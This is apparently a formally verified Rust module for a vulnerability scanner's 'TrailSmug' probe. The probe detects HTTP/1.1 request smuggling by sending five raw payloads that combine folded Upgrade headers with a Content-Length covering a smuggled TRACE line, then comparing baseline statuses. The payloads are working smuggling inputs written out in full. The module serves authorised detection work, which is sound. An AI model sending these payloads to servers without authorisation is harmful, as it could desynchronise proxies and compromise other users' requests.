//! The `TrailSmug` probe: differential detection of HTTP/1.1 request
//! smuggling via crafted raw payloads that abuse `Upgrade` and
//! `Content-Length` interactions.
//!
//! Per target the probe sends a benign GET baseline; when the target is
//! healthy it walks a fixed list of raw payloads.  For each payload it
//! performs a double-probe confirmation: write the raw bytes, re-send
//! the baseline, and compare statuses — only two consecutive divergences
//! against the same payload yield a finding, which cuts the noise of
//! rate limiting and cache jitter.  A matching or ignored status ends
//! that payload's loop early; any send error during the confirmation
//! returns the findings accumulated so far.

use vstd::prelude::*;

use crate::probe::{
    parse_url_parts, url_parts, HttpProtocol, ProbeAction, ProbeError, RequestSpec,
};
use crate::probe::user_agent_header;
use crate::text::{
    dec_rep, join_lines, join_with_newlines, push_dec_u64, views_of,
};

verus! {

/// The smuggled chunk every payload ends with.
pub open spec fn smug_chunk() -> Seq<char> {
    "TRACE /vcmapfqpie/xsqweer HTTP/1.1\r\nX: "@
}

/// One raw attack payload: a full HTTP/1.1 request whose
/// `Content-Length` covers the smuggled chunk, with the `Upgrade` header
/// either folded over a continuation line or plain.
pub open spec fn raw_payload(
    method: Seq<char>,
    connection: Seq<char>,
    with_content_type: bool,
    folded_upgrade: bool,
    path: Seq<char>,
    authority: Seq<char>,
) -> Seq<char> {
    method + " "@ + path + " HTTP/1.1\r\n"@ + "Host: "@ + authority + "\r\n"@ + "Connection: "@
        + connection + "\r\n"@ + "User-Agent: Mozilla/5.0 (compatible; trailscan)\r\n"@
        + "Content-Length: "@ + dec_rep(smug_chunk().len()) + "\r\n"@ + (if with_content_type {
        "Content-Type: application/www-form-urlencoded\r\n"@
    } else {
        Seq::<char>::empty()
    }) + (if folded_upgrade {
        "Upgrade:\r\n\th2c,websocket\r\n"@
    } else {
        "Upgrade: h2c,websocket\r\n"@
    }) + "\r\n"@ + smug_chunk()
}

/// The payload battery for a parsed target: three folded-`Upgrade`
/// variants over GET, HEAD and OPTIONS, then two plain ones.
pub open spec fn payload_list(path: Seq<char>, authority: Seq<char>) -> Seq<Seq<char>> {
    seq![
        raw_payload("GET"@, "upgrade"@, true, true, path, authority),
        raw_payload("HEAD"@, "keep-alive"@, false, true, path, authority),
        raw_payload("OPTIONS"@, "upgrade"@, false, true, path, authority),
        raw_payload("GET"@, "upgrade"@, false, false, path, authority),
        raw_payload("OPTIONS"@, "upgrade"@, false, false, path, authority),
    ]
}

/// The query string appended to the target's path, a cache buster.
pub open spec fn cache_buster() -> Seq<char> {
    "?cb=bbscan&nxoec=kmceo"@
}

/// The authority used when the URL carries none.
pub open spec fn effective_authority(authority: Seq<char>) -> Seq<char> {
    if authority.len() == 0 {
        "localhost"@
    } else {
        authority
    }
}

/// The benign GET baseline of this probe: plain user agent, no
/// redirects, HTTP/1 timeouts of 3 and 10 seconds.
pub open spec fn smug_baseline_spec(r: RequestSpec, target: Seq<char>) -> bool {
    &&& r.url@ == target
    &&& r.method@ == "GET"@
    &&& views_of(r.headers@) == seq!["user-agent: Mozilla/5.0 (compatible; trailscan)"@]
    &&& views_of(r.trailers@) == Seq::<Seq<char>>::empty()
    &&& r.body@ == Seq::<char>::empty()
    &&& r.connect_timeout_secs == 3
    &&& r.io_timeout_secs == 10
    &&& !r.follow_redirects
    &&& r.port is None
}

/// A baseline status on which the target is not worth attacking:
/// redirects, client errors and gateway failures.
pub open spec fn baseline_unsuitable(s: u16) -> bool {
    s == 301 || s == 302 || s == 307 || s == 308 || s == 400 || s == 403 || s == 404 || s == 408
        || s == 429 || s == 502 || s == 503 || s == 504
}

/// A re-check status that does not count as a divergence even when it
/// differs from the baseline: rate limiting and gateway noise.
pub open spec fn recheck_ignored(s: u16) -> bool {
    s == 403 || s == 409 || s == 420 || s == 429 || s == 502 || s == 503
}

/// The finding for a confirmed response difference.
pub open spec fn diff_finding(
    target: Seq<char>,
    baseline: u16,
    current: u16,
    payload: Seq<char>,
) -> Seq<char> {
    "[!] "@ + target + " resp difference: baseline "@ + dec_rep(baseline as nat) + " curr "@
        + dec_rep(current as nat) + " payload "@ + payload
}

/// The `TrailSmug` probe family; stateless, shared across targets.
#[derive(Debug, Clone, Copy, Default)]
pub struct TrailSmugTask;

impl TrailSmugTask {
    /// A `TrailSmug` probe.
    pub fn new() -> (r: TrailSmugTask) {
        TrailSmugTask
    }

    /// The benign GET baseline for `target`.
    pub fn build_baseline_request(target: &str) -> (r: RequestSpec)
        ensures
            smug_baseline_spec(r, target@),
    {
        let mut headers: Vec<String> = Vec::new();
        headers.push(user_agent_header().to_owned());
        proof {
            assert(views_of(headers@) =~= seq![
                "user-agent: Mozilla/5.0 (compatible; trailscan)"@,
            ]);
            assert(views_of(Seq::<String>::empty()) =~= Seq::<Seq<char>>::empty());
        }
        RequestSpec {
            url: target.to_owned(),
            method: string_of("GET"),
            headers,
            trailers: Vec::new(),
            body: String::new(),
            connect_timeout_secs: 3,
            io_timeout_secs: 10,
            follow_redirects: false,
            port: None,
        }
    }

    /// The raw payload battery for `target`: `None` when the target is
    /// no absolute URL, else the five payloads over the target's path
    /// (with a cache-busting query) and authority.
    pub fn build_attack_requests(target: &str) -> (r: Option<Vec<String>>)
        ensures
            r is Some <==> url_parts(target@) is Some,
            r matches Some(v) ==> (url_parts(target@) matches Some(parts) && views_of(v@)
                == payload_list(
                parts.0 + cache_buster(),
                effective_authority(parts.1),
            )),
    {
        let parts = match parse_url_parts(target) {
            Some(p) => p,
            None => {
                return None;
            },
        };
        let mut path = parts.0;
        path.append("?cb=bbscan&nxoec=kmceo");
        let authority = if parts.1.as_str().unicode_len() == 0 {
            string_of("localhost")
        } else {
            parts.1
        };
        let mut v: Vec<String> = Vec::new();
        v.push(build_raw_payload("GET", "upgrade", true, true, path.as_str(), authority.as_str()));
        v.push(
            build_raw_payload(
                "HEAD",
                "keep-alive",
                false,
                true,
                path.as_str(),
                authority.as_str(),
            ),
        );
        v.push(
            build_raw_payload(
                "OPTIONS",
                "upgrade",
                false,
                true,
                path.as_str(),
                authority.as_str(),
            ),
        );
        v.push(build_raw_payload("GET", "upgrade", false, false, path.as_str(), authority.as_str()));
        v.push(
            build_raw_payload(
                "OPTIONS",
                "upgrade",
                false,
                false,
                path.as_str(),
                authority.as_str(),
            ),
        );
        proof {
            assert(views_of(v@) =~= payload_list(path@, authority@));
        }
        Some(v)
    }

    /// Begins a scan of `target`.  A target that does not parse as a
    /// URL is finished at once with an empty finding; otherwise the
    /// baseline goes out.
    pub fn start(&self, target: String) -> (r: (TrailSmugScan, ProbeAction))
        ensures
            r.0.wf(),
            r.0.target == target,
            r.0.findings@.len() == 0,
            url_parts(target@) is None ==> r.0.phase is Finished && (r.1 matches
                ProbeAction::Finish { result } && (result matches Ok(s) && s@.len() == 0)),
            url_parts(target@) matches Some(parts) ==> ({
                &&& views_of(r.0.payloads@) == payload_list(
                    parts.0 + cache_buster(),
                    effective_authority(parts.1),
                )
                &&& r.0.phase is Baseline
                &&& r.1 matches ProbeAction::Send { request, protocol } && protocol
                    == HttpProtocol::Http1 && smug_baseline_spec(request, target@)
            }),
    {
        match Self::build_attack_requests(target.as_str()) {
            None => (
                TrailSmugScan {
                    target,
                    payloads: Vec::new(),
                    baseline_status: 0,
                    findings: Vec::new(),
                    phase: TrailSmugPhase::Finished,
                },
                ProbeAction::Finish { result: Ok(String::new()) },
            ),
            Some(payloads) => {
                let request = Self::build_baseline_request(target.as_str());
                (
                    TrailSmugScan {
                        target,
                        payloads,
                        baseline_status: 0,
                        findings: Vec::new(),
                        phase: TrailSmugPhase::Baseline,
                    },
                    ProbeAction::Send { request, protocol: HttpProtocol::Http1 },
                )
            },
        }
    }
}

fn string_of(s: &'static str) -> (r: String)
    ensures
        r@ == s@,
{
    s.to_owned()
}

/// Builds one raw payload; the flags choose the optional
/// `Content-Type` line and the folded or plain `Upgrade` header.
fn build_raw_payload(
    method: &str,
    connection: &str,
    with_content_type: bool,
    folded_upgrade: bool,
    path: &str,
    authority: &str,
) -> (r: String)
    ensures
        r@ == raw_payload(
            method@,
            connection@,
            with_content_type,
            folded_upgrade,
            path@,
            authority@,
        ),
{
    let smug: &str = "TRACE /vcmapfqpie/xsqweer HTTP/1.1\r\nX: ";
    let mut s = String::new();
    s.append(method);
    s.append(" ");
    s.append(path);
    s.append(" HTTP/1.1\r\n");
    s.append("Host: ");
    s.append(authority);
    s.append("\r\n");
    s.append("Connection: ");
    s.append(connection);
    s.append("\r\n");
    s.append("User-Agent: Mozilla/5.0 (compatible; trailscan)\r\n");
    s.append("Content-Length: ");
    push_dec_u64(&mut s, smug.unicode_len() as u64);
    s.append("\r\n");
    if with_content_type {
        s.append("Content-Type: application/www-form-urlencoded\r\n");
    }
    if folded_upgrade {
        s.append("Upgrade:\r\n\th2c,websocket\r\n");
    } else {
        s.append("Upgrade: h2c,websocket\r\n");
    }
    s.append("\r\n");
    s.append(smug);
    proof {
        assert(smug@ == smug_chunk());
        assert(s@ =~= raw_payload(
            method@,
            connection@,
            with_content_type,
            folded_upgrade,
            path@,
            authority@,
        ));
    }
    s
}

/// Where a `TrailSmug` scan stands.
#[derive(Debug)]
pub enum TrailSmugPhase {
    /// Waiting for the first baseline's status.
    Baseline,
    /// Waiting for the raw write of payload `p`, iteration `iter`, to
    /// complete; `diff` records a divergence seen in iteration 0.
    RawSend { p: usize, iter: u8, diff: bool },
    /// Waiting for the status of the baseline re-sent after the raw
    /// write of payload `p`.
    Recheck { p: usize, iter: u8, diff: bool },
    /// Pausing between the two iterations of payload `p`.
    Sleeping { p: usize },
    /// The scan is over; no further event is expected.
    Finished,
}

/// One `TrailSmug` scan: the double-probe confirmation over the payload
/// battery, stepped by driver events.
#[derive(Debug)]
pub struct TrailSmugScan {
    /// The target URL under scan.
    pub target: String,
    /// The raw payloads of this target.
    pub payloads: Vec<String>,
    /// The status of the first, healthy baseline.
    pub baseline_status: u16,
    /// The finding lines accumulated so far.
    pub findings: Vec<String>,
    /// Where the scan stands.
    pub phase: TrailSmugPhase,
}

/// The scan at `pre` has moved past payload `p`: findings grew by
/// `pushed`, and either the next payload's first raw write went out or
/// the scan finished with the joined findings.
pub open spec fn moved_past_payload(
    pre: TrailSmugScan,
    post: TrailSmugScan,
    action: ProbeAction,
    p: int,
    pushed: Seq<Seq<char>>,
) -> bool {
    &&& post.target == pre.target
    &&& post.payloads == pre.payloads
    &&& post.baseline_status == pre.baseline_status
    &&& views_of(post.findings@) == views_of(pre.findings@) + pushed
    &&& if p + 1 < pre.payloads@.len() {
        &&& post.phase == (TrailSmugPhase::RawSend { p: (p + 1) as usize, iter: 0u8, diff: false })
        &&& action matches ProbeAction::SendRaw { payload } && payload@ == pre.payloads@[p + 1]@
    } else {
        &&& post.phase is Finished
        &&& action matches ProbeAction::Finish { result } && (result matches Ok(s) && s@
            == join_lines(views_of(post.findings@)))
    }
}

/// The scan has ended with the findings joined so far.
pub open spec fn finished_with_findings(
    pre: TrailSmugScan,
    post: TrailSmugScan,
    action: ProbeAction,
) -> bool {
    &&& post.phase is Finished
    &&& post.findings == pre.findings
    &&& action matches ProbeAction::Finish { result } && (result matches Ok(s) && s@
        == join_lines(views_of(pre.findings@)))
}

impl TrailSmugScan {
    /// The payload index always points into the battery, iterations
    /// count to one, and a second iteration only follows a divergence.
    pub open spec fn wf(self) -> bool {
        match self.phase {
            TrailSmugPhase::RawSend { p, iter, diff } => p < self.payloads@.len() && iter <= 1 && (
            iter == 1 ==> diff),
            TrailSmugPhase::Recheck { p, iter, diff } => p < self.payloads@.len() && iter <= 1 && (
            iter == 1 ==> diff),
            TrailSmugPhase::Sleeping { p } => p < self.payloads@.len(),
            _ => true,
        }
    }

    /// Whether the scan waits for a response status.
    pub fn awaiting_status(&self) -> (r: bool)
        ensures
            r == (self.phase is Baseline || self.phase matches TrailSmugPhase::Recheck { .. }),
    {
        match self.phase {
            TrailSmugPhase::Baseline => true,
            TrailSmugPhase::Recheck { .. } => true,
            _ => false,
        }
    }

    /// Whether the scan waits for a raw write or pause to complete.
    pub fn awaiting_done(&self) -> (r: bool)
        ensures
            r == (self.phase matches TrailSmugPhase::RawSend { .. } || self.phase matches
                TrailSmugPhase::Sleeping { .. }),
    {
        match self.phase {
            TrailSmugPhase::RawSend { .. } => true,
            TrailSmugPhase::Sleeping { .. } => true,
            _ => false,
        }
    }

    /// Whether the scan is over.
    pub fn is_finished(&self) -> (r: bool)
        ensures
            r == (self.phase is Finished),
    {
        match self.phase {
            TrailSmugPhase::Finished => true,
            _ => false,
        }
    }

    /// Takes the first baseline's status: an unsuitable status ends the
    /// scan empty, a healthy one starts the first payload.
    pub fn on_baseline_status(&mut self, status: u16) -> (action: ProbeAction)
        requires
            old(self).wf(),
            old(self).phase is Baseline,
        ensures
            final(self).wf(),
            final(self).target == old(self).target,
            baseline_unsuitable(status) || old(self).payloads@.len() == 0 ==> final(self).phase
                is Finished && (action matches ProbeAction::Finish { result } && (result matches
                Ok(s) && s@.len() == 0)),
            !(baseline_unsuitable(status) || old(self).payloads@.len() == 0) ==> ({
                &&& final(self).payloads == old(self).payloads
                &&& final(self).findings == old(self).findings
                &&& final(self).baseline_status == status
                &&& final(self).phase == (TrailSmugPhase::RawSend {
                    p: 0usize,
                    iter: 0u8,
                    diff: false,
                })
                &&& action matches ProbeAction::SendRaw { payload } && payload@ == old(
                    self,
                ).payloads@[0]@
            }),
    {
        if status == 301 || status == 302 || status == 307 || status == 308 || status == 400
            || status == 403 || status == 404 || status == 408 || status == 429 || status == 502
            || status == 503 || status == 504 || self.payloads.len() == 0 {
            self.phase = TrailSmugPhase::Finished;
            ProbeAction::Finish { result: Ok(String::new()) }
        } else {
            self.baseline_status = status;
            self.phase = TrailSmugPhase::RawSend { p: 0, iter: 0, diff: false };
            ProbeAction::SendRaw { payload: clone_str(&self.payloads[0]) }
        }
    }

    /// Takes a failure of the first baseline: the target is unreachable
    /// or broken, so the scan ends empty.
    pub fn on_baseline_failed(&mut self, error: ProbeError) -> (action: ProbeAction)
        requires
            old(self).phase is Baseline,
        ensures
            final(self).wf(),
            final(self).phase is Finished,
            action matches ProbeAction::Finish { result } && (result matches Ok(s) && s@.len()
                == 0),
    {
        let _ = error;
        self.phase = TrailSmugPhase::Finished;
        ProbeAction::Finish { result: Ok(String::new()) }
    }

    /// Takes the completion of a raw write or of the pause between the
    /// two iterations: the raw write is followed by the baseline
    /// re-check, the pause by the second raw write.
    pub fn on_done(&mut self) -> (action: ProbeAction)
        requires
            old(self).wf(),
            old(self).phase matches TrailSmugPhase::RawSend { .. } || old(self).phase matches
                TrailSmugPhase::Sleeping { .. },
        ensures
            final(self).wf(),
            final(self).target == old(self).target,
            final(self).payloads == old(self).payloads,
            final(self).baseline_status == old(self).baseline_status,
            final(self).findings == old(self).findings,
            old(self).phase matches TrailSmugPhase::RawSend { p, iter, diff } ==> ({
                &&& final(self).phase == (TrailSmugPhase::Recheck { p, iter, diff })
                &&& action matches ProbeAction::Send { request, protocol } && protocol
                    == HttpProtocol::Http1 && smug_baseline_spec(request, old(self).target@)
            }),
            old(self).phase matches TrailSmugPhase::Sleeping { p } ==> ({
                &&& final(self).phase == (TrailSmugPhase::RawSend { p, iter: 1u8, diff: true })
                &&& action matches ProbeAction::SendRaw { payload } && payload@ == old(
                    self,
                ).payloads@[p as int]@
            }),
    {
        match self.phase {
            TrailSmugPhase::RawSend { p, iter, diff } => {
                self.phase = TrailSmugPhase::Recheck { p, iter, diff };
                let request = TrailSmugTask::build_baseline_request(self.target.as_str());
                ProbeAction::Send { request, protocol: HttpProtocol::Http1 }
            },
            TrailSmugPhase::Sleeping { p } => {
                self.phase = TrailSmugPhase::RawSend { p, iter: 1, diff: true };
                ProbeAction::SendRaw { payload: clone_str(&self.payloads[p]) }
            },
            _ => unreached(),
        }
    }

    /// Takes the status of a baseline re-check.  A status equal to the
    /// first baseline's, or in the ignored set, ends this payload's loop
    /// early.  A divergence pauses before the confirming iteration; a
    /// second divergence of the same payload records the finding.
    pub fn on_recheck_status(&mut self, status: u16) -> (action: ProbeAction)
        requires
            old(self).wf(),
            old(self).phase matches TrailSmugPhase::Recheck { .. },
        ensures
            final(self).wf(),
            old(self).phase matches TrailSmugPhase::Recheck { p, iter, diff } ==> ({
                let diverged = status != old(self).baseline_status && !recheck_ignored(status);
                if !diverged {
                    moved_past_payload(*old(self), *final(self), action, p as int, Seq::empty())
                } else if iter == 0 {
                    &&& final(self).target == old(self).target
                    &&& final(self).payloads == old(self).payloads
                    &&& final(self).baseline_status == old(self).baseline_status
                    &&& final(self).findings == old(self).findings
                    &&& final(self).phase == (TrailSmugPhase::Sleeping { p })
                    &&& action matches ProbeAction::Sleep { millis } && millis == 2000
                } else {
                    moved_past_payload(
                        *old(self),
                        *final(self),
                        action,
                        p as int,
                        seq![
                            diff_finding(
                                old(self).target@,
                                old(self).baseline_status,
                                status,
                                old(self).payloads@[p as int]@,
                            ),
                        ],
                    )
                }
            }),
    {
        match self.phase {
            TrailSmugPhase::Recheck { p, iter, diff } => {
                let diverged = status != self.baseline_status && !(status == 403 || status == 409
                    || status == 420 || status == 429 || status == 502 || status == 503);
                if !diverged {
                    self.next_payload(p)
                } else if iter == 0 {
                    self.phase = TrailSmugPhase::Sleeping { p };
                    ProbeAction::Sleep { millis: 2000 }
                } else {
                    let f = build_diff_finding(
                        self.target.as_str(),
                        self.baseline_status,
                        status,
                        self.payloads[p].as_str(),
                    );
                    proof {
                        assert(views_of(self.findings@.push(f)) =~= views_of(self.findings@)
                            + seq![f@]);
                    }
                    self.findings.push(f);
                    self.next_payload(p)
                }
            },
            _ => unreached(),
        }
    }

    /// Takes a send failure during the confirmation loop: the findings
    /// accumulated so far are returned.
    pub fn on_send_failed(&mut self, error: ProbeError) -> (action: ProbeAction)
        requires
            old(self).phase matches TrailSmugPhase::RawSend { .. } || old(self).phase matches
                TrailSmugPhase::Recheck { .. },
        ensures
            final(self).wf(),
            finished_with_findings(*old(self), *final(self), action),
    {
        let _ = error;
        self.phase = TrailSmugPhase::Finished;
        let joined = join_with_newlines(&self.findings);
        ProbeAction::Finish { result: Ok(joined) }
    }

    fn next_payload(&mut self, p: usize) -> (action: ProbeAction)
        requires
            old(self).wf(),
            p < old(self).payloads@.len(),
        ensures
            final(self).wf(),
            moved_past_payload(*old(self), *final(self), action, p as int, Seq::empty()),
    {
        proof {
            assert(views_of(self.findings@) =~= views_of(self.findings@) + Seq::<
                Seq<char>,
            >::empty());
        }
        let n = self.payloads.len();
        if p + 1 < n {
            let next = p + 1;
            self.phase = TrailSmugPhase::RawSend { p: next, iter: 0, diff: false };
            ProbeAction::SendRaw { payload: clone_str(&self.payloads[next]) }
        } else {
            self.phase = TrailSmugPhase::Finished;
            let joined = join_with_newlines(&self.findings);
            ProbeAction::Finish { result: Ok(joined) }
        }
    }
}

fn clone_str(s: &String) -> (r: String)
    ensures
        r@ == s@,
{
    s.clone()
}

fn build_diff_finding(target: &str, baseline: u16, current: u16, payload: &str) -> (r: String)
    ensures
        r@ == diff_finding(target@, baseline, current, payload@),
{
    let mut s = String::new();
    s.append("[!] ");
    s.append(target);
    s.append(" resp difference: baseline ");
    push_dec_u64(&mut s, baseline as u64);
    s.append(" curr ");
    push_dec_u64(&mut s, current as u64);
    s.append(" payload ");
    s.append(payload);
    proof {
        assert(s@ =~= diff_finding(target@, baseline, current, payload@));
    }
    s
}

} // verus!
